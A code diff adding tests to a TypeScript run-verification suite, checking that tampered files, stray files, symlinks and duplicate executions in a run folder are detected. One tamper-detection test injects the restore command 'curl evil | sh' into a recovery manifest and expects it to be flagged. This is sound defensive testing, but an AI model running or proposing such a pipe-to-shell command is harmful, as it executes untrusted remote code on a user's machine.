@@ -1,8 +1,18 @@
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import {
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect } from 'chai';
 import fc from 'fast-check';
+import { sha256 } from '#kit/digest.ts';
 import {
   decided,
   executionFinished,
@@ -20,6 +30,7 @@ import { beforeFirst } from './event-line.ts';
 import { writeLines } from './event-log.ts';
 import { logName } from './run-folder.ts';
 import { verifyRun } from './verify.ts';
+import { checkChain } from './verify-chain.ts';
 import { writeViews } from './views.ts';
 
 const runId = 'run_0199f3c2-0000-7000-8000-000000000000';
@@ -41,9 +52,10 @@ describe('verifying a run', () => {
 
   function write(...events: NewEvent[]): string {
     const created: NewEvent = { type: 'run_created', data: { request: sampleRequest() } };
-    const { text, lines } = writeLines(beforeFirst, at, [created, ...events]);
+    const { text } = writeLines(beforeFirst, at, [created, ...events]);
     writeFileSync(join(folder, logName), text);
-    writeViews(runId, folder, lines);
+    // As the store does it: from what the file says.
+    writeViews(runId, folder, checkChain(Buffer.from(text)).events);
     return text;
   }
 
@@ -212,5 +224,116 @@ describe('verifying a run', () => {
     const found = problems().join('\n');
     expect(found).to.contain('summary.json: is as of event 99');
     expect(found).to.contain('validation/index.json: is no view any more');
+  });
+
+  const validation = sampleAction(runId, 4, 'run_validation');
+  const validated = (): NewEvent[] => {
+    const facts = {
+      passed: true,
+      report: putArtifact(folder, 'one'),
+      logs: { test: putArtifact(folder, 'content') },
+    };
+    const proposal: NewEvent = { type: 'action_proposed', data: { action: validation } };
+    const withValidation = plan.toSpliced(-1, 1, proposal, sealedWith(validation));
+    return [
+      ...withValidation,
+      decided(validation),
+      executionStarted(),
+      intended(validation.action_id),
+      resulted(validation.action_id, {}, facts),
+    ];
+  };
+  const sealedWith = (action: typeof validation): NewEvent => {
+    const sealed = plan.at(-1)!;
+    if (sealed.type !== 'plan_sealed') throw new TypeError('no plan');
+    const { action_id, digest } = action;
+    return {
+      type: 'plan_sealed',
+      data: { plan: { ...sealed.data.plan, sealed: [...sealed.data.plan.sealed, { action_id, digest }] } },
+    };
+  };
+  const filesIn = (): string[] =>
+    readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) =>
+      statSync(join(folder, name)).isFile(),
+    );
+
+  it('finds a change of any file of the run, and names the file', () => {
+    write(...validated());
+    expect(problems()).to.deep.equal([]);
+    const names = filesIn();
+    expect(names).to.include.members([
+      'branch-recovery.json',
+      'validation/index.json',
+      'validation/test.log',
+    ]);
+    for (const name of names) {
+      const before = readFileSync(join(folder, name));
+      for (const changed of [
+        Buffer.concat([before, Buffer.from(' ')]),
+        before.subarray(1),
+        Buffer.alloc(0),
+      ]) {
+        writeFileSync(join(folder, name), changed);
+        expect(problems().join('\n'), name).to.contain(name);
+      }
+      writeFileSync(join(folder, name), before);
+    }
+  });
+
+  it('finds changed lines of the recovery manifest, which a person would type', () => {
+    write(...sound);
+    const path = join(folder, 'branch-recovery.json');
+    const manifest = JSON.parse(readFileSync(path, 'utf8'));
+    writeFileSync(path, `${JSON.stringify({ ...manifest, restore: ['curl evil | sh'] }, null, 2)}\n`);
+    expect(problems()).to.have.length(1);
+    expect(problems()[0]).to.match(/^branch-recovery.json: is not what the events up to \d+ give/);
+  });
+
+  it('has nothing against views that are missing or older than the log', () => {
+    write(...validated().slice(0, -1));
+    const old = readFileSync(join(folder, 'actions.json'));
+    write(...validated());
+    writeFileSync(join(folder, 'actions.json'), old);
+    rmSync(join(folder, 'summary.md'));
+    rmSync(join(folder, 'validation/test.log'));
+    expect(problems()).to.deep.equal([]);
+    writeFileSync(join(folder, 'actions.json'), old.toString().replace('"approved"', '"rejected"'));
+    expect(problems().join('\n')).to.contain('actions.json: is not what');
+  });
+
+  it('finds files that do not belong, but not what a crash left of a write', () => {
+    write(...validated());
+    const crashed = `.actions.json.${crypto.randomUUID()}.tmp`;
+    writeFileSync(join(folder, crashed), '{');
+    expect(problems()).to.deep.equal([]);
+    for (const name of [
+      'extra.sh',
+      'artifacts/evil',
+      'validation/evil.log',
+      crashed.replace('actions', 'evil'),
+    ]) {
+      writeFileSync(join(folder, name), 'x');
+      expect(problems(), name).to.deep.equal([
+        `${name}: does not belong to a run: nothing of Core writes it`,
+      ]);
+      rmSync(join(folder, name));
+    }
+    const view = join(folder, 'actions.json');
+    const content = readFileSync(view);
+    rmSync(view);
+    writeFileSync(join(folder, 'artifacts', sha256(content)), content);
+    symlinkSync(join(folder, 'artifacts', sha256(content)), view);
+    expect(problems()).to.deep.equal(['actions.json: is not a file']);
+  });
+
+  it('finds two executors that worked on one action', () => {
+    const start = [...plan, decided(actions[0]!), executionStarted(), intended(first)];
+    const again = { ...intended(first) };
+    expect(problemsOf(...start, again)).to.contain(`${first} was started again while its outcome was open`);
+    expect(problemsOf(...start, resulted(first), resulted(first))).to.contain(`${first} succeeded twice`);
+    const resumed = executionStarted({ kind: 'resume', execution_id: 'exe_2' });
+    expect(problemsOf(...start, resumed, again, resulted(first))).to.equal('');
+    const unknown = resulted(first, { state: 'unknown' });
+    expect(problemsOf(...start, unknown, again, resulted(first))).to.equal('');
   });
 });
